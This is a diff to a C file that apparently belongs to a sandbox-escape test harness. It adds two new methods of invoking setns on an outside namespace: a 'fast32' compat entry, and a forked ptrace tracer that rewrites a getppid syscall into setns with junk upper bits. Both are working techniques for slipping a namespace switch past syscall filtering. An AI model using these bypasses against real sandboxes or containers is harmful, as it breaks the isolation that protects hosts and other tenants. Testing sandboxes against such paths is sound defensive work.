@@ -9,11 +9,15 @@
  */
 #include "attack.h"
 
+#include "fast32.h"
+
 #include <dirent.h>
 #include <linux/sockios.h>
 #include <pthread.h>
 #include <sys/ioctl.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/user.h>
 
 static int type;
 static enum place place;
@@ -109,6 +113,48 @@ static long by_x32(void) {
   return raw(0x40000000 + SYS_setns, outside_ns_fd(place, type), ns_flag[type], 0, 0, 0);
 }
 
+static long by_fast32(void) {
+  return fast32(346, (unsigned)outside_ns_fd(place, type), (unsigned)ns_flag[type]);
+}
+
+/*
+ * The number is another one until a tracer, which the kernel stops it for at the entry, puts the
+ * wanted one there, with upper bits.
+ */
+static void rewrite_the_call_of(pid_t pid) {
+  struct user_regs_struct registers;
+  int status;
+  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) != 0) return;
+  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+  if (waitpid(pid, &status, __WALL) != pid) return;
+  ptrace(PTRACE_SYSCALL, pid, 0, 0);
+  result->done = -1;
+  while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
+    ptrace(PTRACE_GETREGS, pid, 0, &registers);
+    if (WSTOPSIG(status) == (SIGTRAP | 0x80) && registers.orig_rax == SYS_getppid) break;
+    ptrace(PTRACE_SYSCALL, pid, 0, 0);
+  }
+  registers.orig_rax = 0x7eadbeef00000000 | SYS_setns;
+  ptrace(PTRACE_SETREGS, pid, 0, &registers);
+  ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
+static long by_tracer(void) {
+  const int fd = outside_ns_fd(place, type);
+  const pid_t self = (pid_t)raw(SYS_gettid, 0, 0, 0, 0, 0);
+  const pid_t tracer = fork();
+  if (tracer == 0) {
+    usleep(20000);
+    rewrite_the_call_of(self);
+    result->done = -1;
+    _exit(0);
+  }
+  prctl(PR_SET_PTRACER, tracer, 0, 0, 0);
+  while (result->done == 0) {
+  }
+  return raw(SYS_getppid, fd, ns_flag[type], 0, 0, 0);
+}
+
 /* A second descriptor number for the same file, far away from where it was opened. */
 static long by_duplicate(void) {
   int fd = fcntl(outside_ns_fd(place, type), F_DUPFD, 900);
@@ -142,6 +188,8 @@ static const struct {
     {"int80", by_int80},
     {"int80-high-bits", by_int80_with_high_bits},
     {"x32", by_x32},
+    {"fast32", by_fast32},
+    {"traced", by_tracer},
 };
 static long (*enter)(void);
 
